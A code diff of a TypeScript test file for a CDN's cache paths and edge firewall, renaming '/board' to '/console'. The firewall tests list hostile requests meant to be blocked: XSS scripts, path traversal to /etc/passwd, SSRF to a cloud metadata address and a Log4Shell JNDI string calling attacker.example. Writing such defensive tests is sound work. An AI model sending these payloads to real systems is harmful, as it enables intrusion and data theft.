@@ -128,7 +128,7 @@ describe('a browser may', () => {
 
   test('open every page and its files', () => {
     const patterns = distribution().CacheBehaviors.map(({ PathPattern }: any) => PathPattern as string)
-    expect(patterns).toEqual(expect.arrayContaining(['/track*', '/board*', '/docs*']))
+    expect(patterns).toEqual(expect.arrayContaining(['/track*', '/console*', '/docs*']))
     for (const pattern of patterns)
       for (const rest of [
         '',
@@ -146,7 +146,7 @@ describe('a browser may', () => {
 
 describe('the firewall blocks', () => {
   test.each<[string, Partial<EdgeRequest>]>([
-    ['GET /board?next=%3Cscript%3Ealert(1)%3C/script%3E', {}],
+    ['GET /console?next=%3Cscript%3Ealert(1)%3C/script%3E', {}],
     ['GET /docs?file=../../etc/passwd', {}],
     ['GET /track?from=http://10.0.0.1/shell', {}],
     ['GET /index?url=http://169.254.169.254/latest/meta-data', {}],
@@ -160,7 +160,7 @@ describe('the firewall blocks', () => {
     ['GET /api/v1/health', { headers: { 'x-forwarded': '${jndi:ldap://attacker.example/a}' } }],
     ['GET /api/v1/health', { headers: { host: 'localhost' } }],
     ['GET /api/v1/health', { headers: { 'user-agent': 'Nmap Scripting Engine' } }],
-    ['GET /board', { headers: { ...browser, cookie: 'a=<script>alert(1)</script>' } }],
+    ['GET /console', { headers: { ...browser, cookie: 'a=<script>alert(1)</script>' } }],
     ['GET /api/v1/health', { reputation: 'malicious' }],
     [`GET /${'a'.repeat(1100)}`, {}],
     ['POST /upload', { body: 'x'.repeat(9000) }],
@@ -169,7 +169,7 @@ describe('the firewall blocks', () => {
   })
 
   test('a page’s request without User-Agent', () => {
-    expect(blocked(request('GET /board'))).toBe('OutsideTheApi')
+    expect(blocked(request('GET /console'))).toBe('OutsideTheApi')
   })
 })
 
